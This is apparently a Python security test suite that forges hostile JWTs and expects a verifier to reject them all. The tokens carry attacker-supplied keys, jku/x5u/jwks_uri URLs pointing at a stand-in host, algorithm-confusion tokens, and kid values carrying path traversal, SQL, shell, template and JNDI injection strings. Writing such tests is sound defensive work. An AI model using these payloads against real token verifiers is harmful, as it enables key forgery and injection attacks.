"""Hostile tokens that would bring their own key, or name one that is not theirs (K1 to K9)."""

import base64
import json
from collections.abc import Iterator

from cryptography.hazmat.primitives.serialization import Encoding, PublicFormat

from tests.attacks.case import Case
from tests.attacks.forge import ABSENT, Mint, hmac_signer, signer
from tests.attacks.keyring import rsa_key

TRAP = "https://trap.invalid"

COMMAND_KIDS = (
    "../../../../../../dev/null",
    "/dev/null",
    "/proc/sys/kernel/randomize_va_space",
    "..\\..\\windows\\win.ini",
    "' UNION SELECT 'attacker' --",
    '"; DROP TABLE keys; --',
    "key.pem; id",
    "| cat key.pem",
    "$(id)",
    "{{7*7}}",
    "${jndi:ldap://trap.invalid/a}",
    f"{TRAP}/jwks.json",
    "file:///etc/passwd",
    "kid%00",
    "__proto__",
    "0",
)


def hostile(mint: Mint) -> Iterator[Case]:
    """Yield tokens that are refused when a kid is only compared, and nothing else selects a key."""
    yield from _key_in_the_header(mint)
    yield from _address_in_the_header(mint)
    yield from _certificate_or_key_elsewhere(mint)
    yield from _kid_as_command(mint)
    yield from _kid_nearly(mint)
    yield from _kid_absent(mint)
    forged = mint.token(key=mint.keys.other_issuer)
    yield Case("K9", "the same kid at another issuer, and its key", forged, "signature_invalid")


def _by_attacker(mint: Mint, **changes: object) -> str:
    return mint.token(mint.header(**changes), sign=signer(mint.keys.attacker))


def _key_in_the_header(mint: Mint) -> Iterator[Case]:
    jwk = mint.keys.attacker.jwk
    yield Case("K1", "jwk", _by_attacker(mint, jwk=jwk), "signature_invalid")
    same_kid = {**jwk, "kid": mint.key.kid}
    yield Case("K1", "jwk of our kid", _by_attacker(mint, jwk=same_kid), "signature_invalid")
    own = _by_attacker(mint, jwk=jwk, kid=jwk["kid"])
    yield Case("K1", "jwk and its kid", own, "key_unknown")
    yield Case("K1", "jwk, no kid", _by_attacker(mint, jwk=jwk, kid=ABSENT), "kid_invalid")
    secret = {"kty": "oct", "k": "c2VjcmV0", "alg": "HS256"}
    symmetric = mint.token(
        mint.header(alg="HS256", jwk=secret), sign=hmac_signer("sha256", b"secret")
    )
    yield Case("K1", "symmetric jwk", symmetric, "algorithm_not_allowed")


def _address_in_the_header(mint: Mint) -> Iterator[Case]:
    for member in ("jku", "x5u"):
        for url in (f"{TRAP}/jwks.json", "file:///etc/jwks.json", "http://127.0.0.1:1/jwks.json"):
            token = _by_attacker(mint, **{member: url})
            yield Case("K2", f"{member} {url}", token, "signature_invalid")
        unknown = _by_attacker(mint, **{member: f"{TRAP}/jwks.json", "kid": "attacker"})
        yield Case("K2", f"{member} and an unknown kid", unknown, "key_unknown")


def _certificate_or_key_elsewhere(mint: Mint) -> Iterator[Case]:
    attacker = mint.keys.attacker
    pem = _public_pem(mint)
    certificate = base64.b64encode(pem).decode()
    for member, value in (
        ("x5c", [certificate]),
        ("x5t", "YXR0YWNrZXI"),
        ("x5t#S256", "YXR0YWNrZXI"),
        ("pem", pem.decode()),
        ("key", attacker.jwk),
        ("jwks", {"keys": [attacker.jwk]}),
        ("jwks_uri", f"{TRAP}/jwks.json"),
    ):
        token = _by_attacker(mint, **{member: value})
        yield Case("K3", f"{member} in the header", token, "signature_invalid")
    for member, value in (
        ("jwk", attacker.jwk),
        ("jwks_uri", f"{TRAP}/jwks.json"),
        ("cnf", {"jwk": attacker.jwk}),
        ("sub_jwk", attacker.jwk),
    ):
        token = mint.token(mint.header(), mint.claims(**{member: value}), sign=signer(attacker))
        yield Case("K3", f"{member} in the claims", token, "signature_invalid")


def _public_pem(mint: Mint) -> bytes:
    public = rsa_key(mint.keys.attacker).public_key()
    return public.public_bytes(Encoding.PEM, PublicFormat.SubjectPublicKeyInfo)


def _kid_as_command(mint: Mint) -> Iterator[Case]:
    for kid in COMMAND_KIDS:
        yield Case("K4", f"kid {kid}", _by_attacker(mint, kid=kid), "key_unknown")
    empty = mint.token(mint.header(alg="HS256", kid="/dev/null"), sign=hmac_signer("sha256", b""))
    yield Case("K4", "kid of an empty file, empty secret", empty, "algorithm_not_allowed")


def _kid_nearly(mint: Mint) -> Iterator[Case]:
    kid = mint.key.kid
    for near in (
        kid.upper(),
        kid.lower(),
        f"{kid} ",
        f" {kid}",
        f"{kid}\u0000",
        f"{kid}\n",
        kid[:-1],
        f"{kid}=",
        kid.replace("+", "-"),
        kid.replace("kid", "\uff4bid"),
        kid.replace("k", "\u212a", 1),
        f"\u200b{kid}",
        "x" * 256,
    ):
        token = mint.token(mint.header(kid=near))
        yield Case("K5", f"kid {near[:40]!a}", token, "key_unknown")
    for kid_of_type in ("", None, 1, True, [kid], {"kid": kid}, "x" * 257):
        token = mint.token(mint.header(kid=kid_of_type))
        yield Case("K5", f"kid {json.dumps(kid_of_type):.40}", token, "kid_invalid")


def _kid_absent(mint: Mint) -> Iterator[Case]:
    yield Case("K6", "no kid, our key", mint.token(mint.header(kid=ABSENT)), "kid_invalid")
    yield Case(
        "K6", "no kid, no typ", mint.token(mint.header(kid=ABSENT, typ=ABSENT)), "kid_invalid"
    )
